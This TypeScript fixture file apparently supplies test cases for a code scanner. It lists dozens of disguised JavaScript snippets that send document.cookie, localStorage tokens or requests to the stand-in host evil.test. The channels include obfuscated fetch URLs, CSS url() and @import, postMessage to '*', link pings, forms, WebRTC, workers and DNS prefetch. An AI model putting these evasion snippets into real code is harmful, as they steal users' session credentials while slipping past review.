// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

/** Requests, styles, messages and forms that carry something away, written before the rules for them. */
export const DISGUISED_E_NETWORK: readonly Dangerous[] = [
  [
    "external-request",
    "fetch(new TextDecoder().decode(Uint8Array.from(atob('aHR0cHM6Ly9ldmlsLnRlc3Q='),c=>c.charCodeAt(0))))",
  ],
  [
    "external-request",
    "fetch(new TextDecoder().decode(new Uint8Array([104,116,116,112,115,58,47,47,101,46,116,101,115,116])))",
  ],
  ["external-request", "fetch('https://evil.test#'.match(/.*(?=#)/)[0])"],
  ["external-request", "fetch('xhttps://evil.test'.match(/https.*/)[0])"],
  ["external-request", "fetch(/u=(.*)/.exec('u=https://evil.test')[1])"],
  [
    "external-request",
    "const d=document.createElement('p'); d.dataset.u='https://evil.test/?'+document.cookie; new Image().src=d.dataset.u",
  ],
  [
    "external-request",
    "const d=document.createElement('p'); d.textContent='https://evil.test'; fetch(d.textContent)",
  ],
  [
    "external-request",
    "const d=document.createElement('p'); d.setAttribute('u','https://evil.test'); fetch(d.getAttribute('u'))",
  ],
  ["external-request", "fetch([...new URLSearchParams('u=https://evil.test').values()][0])"],
  ["external-request", "fetch(new URL('http://x/?u=https://evil.test').searchParams.get('u'))"],
  ["external-request", "const u=new URL('https://evil.test/a'); u.pathname='/c'; fetch(u)"],
  ["external-request", "const u=new URL('/x',location.href); u.host='evil.test'; fetch(u)"],
  ["external-request", "fetch(Symbol('https://evil.test').description)"],
  ["external-request", "fetch(new Error('https://evil.test').message)"],
  [
    "external-request",
    "document.body.style.setProperty('background','url(https://evil.test/?'+document.cookie+')')",
  ],
  [
    "external-request",
    "document.documentElement.style.setProperty('--x',`url(https://evil.test/?${document.cookie})`)",
  ],
  ["external-request", "el.style.background='url(https://evil.test/?c='+document.cookie+')'"],
  ["external-request", "el.style['background-image']='url(https://evil.test/?c='+document.cookie+')'"],
  ["external-request", "el.style.borderImageSource=`url(https://evil.test/?${document.cookie})`"],
  ["external-request", "el.setAttribute('style','background:url(https://evil.test/?'+document.cookie+')')"],
  [
    "external-request",
    "Object.assign(el.style,{backgroundImage:'url(https://evil.test/?'+document.cookie+')'})",
  ],
  [
    "external-request",
    "const s=document.createElement('style'); s.textContent='body{background:url(https://evil.test/?'+document.cookie+')}'; document.head.append(s)",
  ],
  [
    "external-request",
    "const s=document.createElement('style'); s.innerHTML=`body{background:url(https://evil.test/?${document.cookie})}`",
  ],
  [
    "external-request",
    "const s=document.createElement('style'); s.appendChild(document.createTextNode('@import \"https://evil.test/?'+document.cookie+'\"'))",
  ],
  [
    "external-request",
    "const c=new CSSStyleSheet(); c.replaceSync('body{background:url(https://evil.test/?'+document.cookie+')}')",
  ],
  ["external-request", "new CSSStyleSheet().replace(`@import 'https://evil.test/?${document.cookie}'`)"],
  [
    "external-request",
    "document.styleSheets[0].addRule('a','background:url(https://evil.test/?'+document.cookie+')')",
  ],
  ["external-request", "new FontFace('a','url(https://evil.test/?'+document.cookie+')').load()"],
  ["external-request", "parent.postMessage(document.cookie,'*')"],
  ["external-request", "window.opener.postMessage({c:localStorage.getItem('token')},'*')"],
  ["external-request", "top.postMessage(JSON.stringify(localStorage),'*')"],
  ["external-request", "parent.postMessage(document.cookie,{targetOrigin:'*'})"],
  ["external-request", "const a=document.createElement('a'); a.ping='https://evil.test/p'"],
  ["external-request", "link.setAttribute('ping','https://evil.test/?'+document.cookie)"],
  [
    "external-request",
    "const u='https://evil.test/c'; const A=()=><form action={u}><input name='p'/></form>",
  ],
  ["external-request", "const A=()=><button formAction='https://evil.test/c'>x</button>"],
  ["external-request", "document.forms[0].setAttribute('action','https://evil.test/c')"],
  ["external-request", "navigator.share({url:'https://evil.test/?'+document.cookie})"],
  ["external-request", "new RTCPeerConnection({iceServers:[{urls:'stun:evil.test'}]})"],
  [
    "external-request",
    "const p=new RTCPeerConnection({iceServers:[{urls:['turn:evil.test'],username:document.cookie,credential:'x'}]})",
  ],
  ["external-request", "new WebTransport('https://evil.test:4433')"],
  ["external-request", "const W=window['Web'+'Transport']; new W('https://evil.test')"],
  ["external-request", "importScripts('https://evil.test/a.js')"],
  ["external-request", "new Worker('https://evil.test/w.js')"],
  ["external-request", "open('https://evil.test/?'+document.cookie)"],
  ["external-request", "const o=window.open; o(`https://evil.test/?c=${document.cookie}`)"],
  [
    "external-request",
    "const i=document.createElement('img'); i.__lookupSetter__('src').call(i,'https://evil.test/?'+document.cookie)",
  ],
  [
    "external-request",
    "HTMLImageElement.prototype.__lookupSetter__('src').call(new Image(),'https://evil.test/?'+document.cookie)",
  ],
  [
    "external-request",
    "const i=document.createElement('input'); i.value='https://evil.test'; fetch(i.value)",
  ],
  ["external-request", "const b=new Blob(['https://evil.test']); b.text().then(fetch)"],
  ["external-request", "document.body.background='https://evil.test/?'+document.cookie"],
  [
    "external-request",
    "const l=document.createElement('link'); l.rel='preconnect'; l.href='https://'+btoa(document.cookie)+'.evil.test'",
  ],
  ["external-request", "new EventSource(new URL('https://evil.test').href)"],
  ["external-request", "fetch(Object.keys({'https://evil.test':1})[0])"],
  ["external-request", 'fetch(JSON.parse(\'{"u":"https://evil.test"}\').u)'],
  ["external-request", "fetch('https://evil.test'.padEnd(20,'/'))"],
  ["external-request", "const f=new FormData(); f.set('u','https://evil.test'); fetch(f.get('u'))"],
  ["external-request", "sessionStorage.u='https://evil.test'; fetch(sessionStorage.u)"],
];
